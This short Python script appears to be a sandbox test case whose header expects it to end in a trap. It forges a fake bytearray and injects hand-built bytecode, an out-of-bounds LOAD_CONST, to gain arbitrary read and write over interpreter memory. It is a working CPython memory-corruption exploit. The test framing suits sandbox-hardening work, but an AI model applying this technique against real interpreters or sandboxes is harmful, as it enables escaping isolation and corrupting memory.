# A bytearray that begins at address 0 and ends with memory, made of bytes by bytecode that loads them as an object.
# ends: trap
import dis


def word(number):
    return number.to_bytes(4, "little")


# Where CPython keeps its parts: count, class, size, room, start, begin, exports.
forged = word(1 << 20) + word(id(bytearray)) + word(2**31 - 1) + word(2**31 - 1) + word(0) * 3
address = id(forged) + bytes.__basicsize__ - 1
pointer = word(address)


def load():
    return None


index = (id(pointer) + bytes.__basicsize__ - 1 - (id(load.__code__.co_consts) + tuple.__basicsize__)) // 4
assert (id(pointer) + bytes.__basicsize__ - 1) % 4 == 0
index %= 1 << 30
code = [dis.opmap["RESUME"], 0]
for shift in (24, 16, 8):
    code += [dis.opmap["EXTENDED_ARG"], index >> shift & 255]
code += [dis.opmap["LOAD_CONST"], index & 255, dis.opmap["RETURN_VALUE"], 0]
load.__code__ = load.__code__.replace(co_code=bytes(code), co_consts=load.__code__.co_consts)
memory = load()
assert type(memory) is bytearray and len(memory) == 2**31 - 1
# What is at an address is there: this is the sandbox's own memory, all of it, and no more.
assert memory[address : address + 4] == word(1 << 20) or memory[address + 4 : address + 8] == word(id(bytearray))
memory[address + 24] = 0
print("read and written", flush=True)
memory[2**31 - 2]
